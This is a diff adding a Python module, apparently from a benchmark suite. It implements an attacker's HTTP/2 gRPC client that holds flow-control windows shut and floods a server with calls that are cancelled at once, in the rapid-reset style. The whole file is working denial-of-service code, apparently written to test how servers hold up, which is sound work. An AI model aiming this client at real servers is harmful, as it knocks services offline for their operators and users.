@@ -1,0 +1,96 @@
+"""An attacker's gRPC connection: HTTP/2 frames by hand, with windows that are never opened."""
+
+from __future__ import annotations
+
+import socket
+import struct
+import threading
+
+from bench.performance.http2 import (
+    ACK,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    PING,
+    RESET,
+    SETTINGS,
+    encode_frame,
+    encode_message,
+)
+
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+_INITIAL_WINDOW_SIZE = 4
+_SETTING = struct.Struct(">HI")
+_HEADER = struct.Struct(">HBBBI")
+_CANCEL = struct.pack(">I", 8)
+_GOAWAY = 7
+
+
+class DeafConnection:
+    """Makes calls and takes none of their answers: each stream's window is zero.
+
+    A thread reads what the server says about the streams, so that the attacker knows how many are open.
+    """
+
+    def __init__(self, address: str) -> None:
+        """`address` is HOST:PORT. Raises OSError."""
+        host, _, port = address.rpartition(":")
+        self._socket = socket.create_connection((host, int(port)))
+        self._socket.sendall(_PREFACE + encode_frame(SETTINGS, 0, 0, _SETTING.pack(_INITIAL_WINDOW_SIZE, 0)))
+        self._next = 1
+        self.open: set[int] = set()
+        self.is_over = False
+        threading.Thread(target=self._read, daemon=True).start()
+
+    def call(self, headers: bytes, message: bytes) -> None:
+        """Make a call. Raises OSError."""
+        stream, self._next = self._next, self._next + 2
+        self.open.add(stream)
+        self._socket.sendall(
+            encode_frame(HEADERS, END_HEADERS, stream, headers)
+            + encode_frame(DATA, END_STREAM, stream, encode_message(message))
+        )
+
+    def call_and_reset(self, headers: bytes, message: bytes, times: int) -> None:
+        """Make calls and cancel each at once, all in one write. Raises OSError."""
+        frames = []
+        for _ in range(times):
+            stream, self._next = self._next, self._next + 2
+            frames.append(encode_frame(HEADERS, END_HEADERS, stream, headers))
+            frames.append(encode_frame(DATA, END_STREAM, stream, encode_message(message)))
+            frames.append(encode_frame(RESET, 0, stream, _CANCEL))
+        self._socket.sendall(b"".join(frames))
+
+    def close(self) -> None:
+        """End the connection."""
+        self.is_over = True
+        self._socket.close()
+
+    def _read(self) -> None:
+        buffer = b""
+        try:
+            while data := self._socket.recv(1 << 16):
+                buffer = self._take(buffer + data)
+        except OSError:
+            pass
+        finally:
+            self.is_over = True
+
+    def _take(self, data: bytes) -> bytes:
+        start = 0
+        while len(data) - start >= _HEADER.size:
+            high, low, kind, flags, stream = _HEADER.unpack_from(data, start)
+            end = start + _HEADER.size + (high << 8 | low)
+            if end > len(data):
+                break
+            payload, start = data[start + _HEADER.size : end], end
+            if kind == RESET or (flags & END_STREAM and kind in (HEADERS, DATA)):
+                self.open.discard(stream)
+            elif kind == PING and not flags & ACK:
+                self._socket.sendall(encode_frame(PING, ACK, 0, payload))
+            elif kind == SETTINGS and not flags & ACK:
+                self._socket.sendall(encode_frame(SETTINGS, ACK, 0, b""))
+            elif kind == _GOAWAY:
+                self.is_over = True
+        return data[start:]
